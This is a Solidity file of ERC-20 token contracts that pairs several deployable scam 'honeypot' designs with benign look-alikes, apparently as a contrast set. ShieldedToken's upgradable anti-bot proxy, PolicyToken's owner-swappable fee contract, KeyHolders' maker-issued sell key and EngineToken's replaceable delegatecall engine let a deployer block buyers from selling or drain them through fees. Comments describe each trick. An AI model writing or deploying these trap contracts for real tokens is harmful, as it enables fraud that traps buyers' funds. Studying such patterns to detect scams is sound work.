// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

abstract contract Plain {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(string memory title, string memory ticker, uint256 supply) {
        (name, symbol, totalSupply) = (title, ticker, supply);
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) { require(allowed >= value, "ERC20: insufficient allowance"); allowance[from][msg.sender] = allowed - value; }
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) internal virtual { _move(from, to, value); }
    function _move(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "ERC20: transfer amount exceeds balance");
        unchecked { balanceOf[from] -= value; balanceOf[to] += value; }
        emit Transfer(from, to, value);
    }
}

interface IShield { function setTokenOwner(address owner) external; function onPreTransferCheck(address from, address to, uint256 amount) external; }

// "Anti-bot service" behind a proxy of its own: the first version lets everybody pass, the second one does not.
contract ShieldProxy {
    address private _impl;
    address private _boss;
    mapping(address => bool) private _pad;
    constructor(address impl) { _impl = impl; _boss = msg.sender; }
    function point(address impl) external { require(msg.sender == _boss); _impl = impl; }
    fallback() external {
        address impl = _impl;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
        }
    }
}
contract ShieldOne {
    address internal _impl;
    address internal _boss;
    mapping(address => address) internal _owners;
    function setTokenOwner(address owner) external { _owners[msg.sender] = owner; }
    function onPreTransferCheck(address, address, uint256) external virtual {}
}
contract ShieldTwo is ShieldOne {
    function onPreTransferCheck(address from, address to, uint256) external view override {
        if (from == _owners[msg.sender] || to == _owners[msg.sender] || to.code.length == 0) return;
        revert("Protected");
    }
}
contract ShieldedToken is Plain {
    IShield public immutable antiBot;
    constructor(address shield) Plain("Quiet Harbor Inu", "QHINU", 1_000_000_000 ether) { antiBot = IShield(shield); IShield(shield).setTokenOwner(msg.sender); }
    function _transfer(address from, address to, uint256 value) internal override { antiBot.onPreTransferCheck(from, to, value); _move(from, to, value); }
}

// The same call, to a contract without storage that refuses nothing but the empty transfer, and that nobody can change.
contract ClearShield {
    function onPreTransferCheck(address, address, uint256 amount) external pure { require(amount > 0, "empty"); }
}
contract ClearToken is Plain {
    ClearShield public immutable antiBot;
    constructor(address shield) Plain("Clear Water", "CLRW", 80_000_000 ether) { antiBot = ClearShield(shield); }
    function _transfer(address from, address to, uint256 value) internal override { antiBot.onPreTransferCheck(from, to, value); _move(from, to, value); }
}

// The fee is what another contract says, and the owner says which one.
interface IPolicy { function feeOf(address from, address to, uint256 amount) external view returns (uint256); }
contract ThreePercent { function feeOf(address, address, uint256 amount) external pure returns (uint256) { return amount * 3 / 100; } }
contract PolicyToken is Plain {
    address public owner = msg.sender;
    IPolicy public policy;
    event PolicyChanged(address policy);
    constructor(address first) Plain("Tidal", "TIDE", 90_000_000 ether) { policy = IPolicy(first); }
    function setPolicy(address next) external { require(msg.sender == owner, "owner"); policy = IPolicy(next); emit PolicyChanged(next); }
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = from == owner || to == owner ? 0 : policy.feeOf(from, to, value);
        if (fee > 0) _move(from, owner, fee);
        _move(from, to, value - fee);
    }
}

// Three percent to a splitter that is told about it.
contract Splitter {
    address[2] public parties;
    uint256 public told;
    constructor(address first, address second) { parties = [first, second]; }
    function onFee(uint256 amount) external { told += amount; }
    function split(address token) external { uint256 half = Plain(token).balanceOf(address(this)) / 2; for (uint256 i = 0; i < 2; i++) Plain(token).transfer(parties[i], half); }
}
contract SplitterToken is Plain {
    Splitter public immutable splitter;
    address private immutable _maker = msg.sender;
    constructor(address to) Plain("Two Rivers", "RIVR", 10_000_000 ether) { splitter = Splitter(to); }
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = from == _maker || from == address(splitter) ? 0 : value * 3 / 100;
        if (fee > 0) { _move(from, address(splitter), fee); splitter.onFee(fee); }
        _move(from, to, value - fee);
    }
}

// Selling takes a key that only its maker gives out.
contract SellKey {
    address public immutable maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    function give(address to) external { require(msg.sender == maker); balanceOf[to] += 1; }
}
contract KeyHolders is Plain {
    SellKey private immutable _key;
    address private _market;
    constructor(address key) Plain("Guild Hall", "GUILD", 21_000_000 ether) { _key = SellKey(key); }
    function open(address market) external { require(_market == address(0) && msg.sender == _key.maker()); _market = market; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == _market) require(_key.balanceOf(from) > 0, "Guild members only");
        _move(from, to, value);
    }
}

// Bookkeeping happens in an engine that is called in the token's own name, kept far away in storage.
contract PlainEngine {
    string private _name; string private _symbol; uint256 private _supply;
    mapping(address => uint256) internal _held;
    function move(address from, address to, uint256 value) external virtual { _held[from] -= value; _held[to] += value; }
}
contract ClosedEngine is PlainEngine {
    function move(address from, address to, uint256 value) external override {
        require(to.code.length == 0 || from.code.length > 0, "engine: busy");
        _held[from] -= value;
        _held[to] += value;
    }
}
contract EngineToken {
    string public name = "Clockwork";
    string public symbol = "CLOCK";
    uint256 public totalSupply = 3_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint8 public constant decimals = 18;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    bytes32 private constant _ENGINE = keccak256("clockwork.engine");
    bytes32 private constant _KEEPER = keccak256("clockwork.keeper");
    constructor(address engine) {
        (bytes32 at, bytes32 keeper) = (_ENGINE, _KEEPER);
        assembly { sstore(at, engine) sstore(keeper, caller()) }
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }
    function wind(address engine) external { (bytes32 at, bytes32 keeper) = (_ENGINE, _KEEPER); assembly { if iszero(eq(sload(keeper), caller())) { revert(0, 0) } sstore(at, engine) } }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _tick(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { allowance[from][msg.sender] -= value; _tick(from, to, value); return true; }
    function _tick(address from, address to, uint256 value) private {
        bytes32 at = _ENGINE;
        address engine;
        assembly { engine := sload(at) }
        (bool ok, bytes memory why) = engine.delegatecall(abi.encodeWithSelector(PlainEngine.move.selector, from, to, value));
        if (!ok) assembly { revert(add(why, 32), mload(why)) }
        emit Transfer(from, to, value);
    }
}
